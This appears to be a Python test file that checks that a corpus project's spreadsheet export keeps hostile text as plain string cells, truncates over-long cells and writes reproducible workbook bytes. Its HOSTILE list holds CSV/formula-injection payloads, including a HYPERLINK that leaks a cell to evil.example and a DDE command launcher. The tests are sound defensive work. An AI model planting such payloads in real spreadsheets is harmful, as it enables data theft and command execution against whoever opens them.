"""The spreadsheet view: every text cell a string (never a formula), numbers as numbers, reproducible bytes."""

from __future__ import annotations

import io
import re
import time
import zipfile
from datetime import date
from xml.etree import ElementTree

from builder import csv_bytes as plain_csv

from corpus.package.tables import CsvRows
from corpus.release.spreadsheet import MAX_CELL, workbook_bytes


def csv_bytes(rows: list[list[str]]) -> bytes:
    """CSV bytes as the build writes them (a cell with a bare CR quoted)."""
    out = io.StringIO(newline="")
    writer = CsvRows(out)
    for row in rows:
        writer.writerow(row)
    return out.getvalue().encode("utf-8")


NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+1",
    "- Мы готовы к диалогу, — сказал он.",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _descriptor() -> dict[str, object]:
    fields = [{"name": "id", "type": "integer"}, {"name": "text", "type": "string"}]
    return {"resources": [{"name": "paragraphs", "path": "data/p.csv", "schema": {"fields": fields}}]}


def _cells(book: bytes) -> list[tuple[str, str | None, str, bool]]:
    """(reference, type, value, is formula) of every cell of the first sheet, strings resolved."""
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        shared = [  # control characters are stored as OOXML escapes (_x000D_), which spreadsheets decode
            re.sub(
                r"_x([0-9A-F]{4})_",
                lambda m: chr(int(m[1], 16)),
                "".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")),
            )
            for si in ElementTree.fromstring(archive.read("xl/sharedStrings.xml")).findall("m:si", NS)
        ]
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    cells = []
    for c in sheet.iter(f"{{{NS['m']}}}c"):
        value = c.findtext("m:v", default="", namespaces=NS)
        kind = c.get("t")
        cells.append(
            (c.get("r", ""), kind, shared[int(value)] if kind == "s" else value, c.find("m:f", NS) is not None)
        )
    return cells


def test_hostile_text_is_a_string_cell_and_exact() -> None:
    rows = [["id", "text"], *[[str(i), text] for i, text in enumerate(HOSTILE, start=1)]]
    book = workbook_bytes(_descriptor(), {"data/p.csv": csv_bytes(rows)}, title="t", released=date(2026, 1, 2))
    cells = _cells(book)
    assert not any(formula for *_, formula in cells)
    texts = [value for ref, kind, value, _ in cells if ref.startswith("B") and ref != "B1"]
    assert texts == HOSTILE
    assert all(kind == "s" for ref, kind, _, _ in cells if ref.startswith("B"))
    numbers = [(value, kind) for ref, kind, value, _ in cells if ref.startswith("A") and ref != "A1"]
    assert numbers == [(str(i), None) for i in range(1, len(HOSTILE) + 1)]  # integers stay numbers


def test_a_cell_over_the_limit_is_cut_with_a_note() -> None:
    rows = [["id", "text"], ["1", "word " * 10_000]]
    book = workbook_bytes(_descriptor(), {"data/p.csv": csv_bytes(rows)}, title="t", released=date(2026, 1, 2))
    (text,) = [value for ref, _, value, _ in _cells(book) if ref == "B2"]
    assert len(text) == MAX_CELL
    assert text.endswith("[…cut: 50,000 characters in all; the whole text is in data/p.csv]")


def test_the_workbook_is_reproducible() -> None:
    table = {"data/p.csv": csv_bytes([["id", "text"], ["1", "talks"]])}
    first = workbook_bytes(_descriptor(), table, title="t", released=date(2026, 1, 2))
    time.sleep(1.1)
    assert workbook_bytes(_descriptor(), table, title="t", released=date(2026, 1, 2)) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        core = archive.read("docProps/core.xml").decode()
    assert re.findall(r"<dcterms:\w+ [^>]*>([^<]+)<", core) == ["2026-01-02T00:00:00Z", "2026-01-02T00:00:00Z"]


def test_a_bare_carriage_return_cannot_split_a_row() -> None:
    """The csv module leaves a CR unquoted under LF line ends; the build's writer quotes it."""
    rows = [["id", "text"], ["1", "a\rb"], ["2", "c"]]
    assert plain_csv(rows).count(b"\n") == 3 and b'"a\rb"' not in plain_csv(rows)  # the trap
    assert csv_bytes(rows) == b'id,text\n"1","a\rb"\n2,c\n'
